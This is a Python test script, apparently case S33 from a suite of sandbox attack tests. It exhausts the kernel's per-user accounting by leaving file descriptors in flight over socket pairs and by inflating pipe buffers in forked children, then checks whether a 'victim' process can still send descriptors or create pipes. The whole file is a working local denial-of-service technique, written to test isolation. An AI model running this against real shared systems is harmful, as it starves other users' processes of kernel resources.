"""S33: uses up what the kernel counts for each user. Argument: `burner`, which waits, or `victim`.

Descriptors that are in flight through sockets are counted for the user: with more than its limit of
open files under way, no process of this user may send any. Pages of pipes are counted likewise.
"""

from __future__ import annotations

import fcntl
import os
import socket
import sys

from attacks.guard import insist, run, say, tried, wait_to_be_ended

F_GETPIPE_SZ, F_SETPIPE_SZ = 1032, 1031
DEFAULT_PIPE = 65536
MOST_IN_A_MESSAGE = 200


def send(count: int) -> None:
    """Send descriptors that are not received."""
    ends = socket.socketpair()
    held.append(ends)
    socket.send_fds(ends[0], [b"x"], [0] * count)


def new_pipe() -> int:
    """Make a pipe; returns its capacity."""
    ends = os.pipe()
    held.append(ends)
    return fcntl.fcntl(ends[0], F_GETPIPE_SZ)


def take_pages() -> int:
    """Make large pipes until there are no more pages for one; returns their number."""
    made = 0
    for _ in range(20):
        ends = os.pipe()
        held.append(ends)
        if tried(fcntl.fcntl, ends[0], F_SETPIPE_SZ, 1 << 20):
            break
        made += 1
    return made


def victim() -> dict[str, object]:
    return {"send": tried(send, 1), "pipe": new_pipe()}


def burner() -> None:
    first = tried(send, MOST_IN_A_MESSAGE)
    again = tried(send, 1)
    pipes = 0
    for _ in range(5):
        # Each process may have a few pipes; the pages are counted for all of them.
        ready, done = os.pipe()
        if os.fork() == 0:
            os.write(done, bytes([take_pages()]))
            wait_to_be_ended()
        pipes += os.read(ready, 1)[0]
        os.close(ready)
        os.close(done)
    for _ in range(20):  # what is left is enough for a few small ones
        if new_pipe() < DEFAULT_PIPE:
            break
    say({"first": first, "again": again, "pipes": pipes, **victim()})
    wait_to_be_ended()


held: list[object] = []
insist()
if sys.argv[1] == "burner":
    burner()
else:
    run(victim)
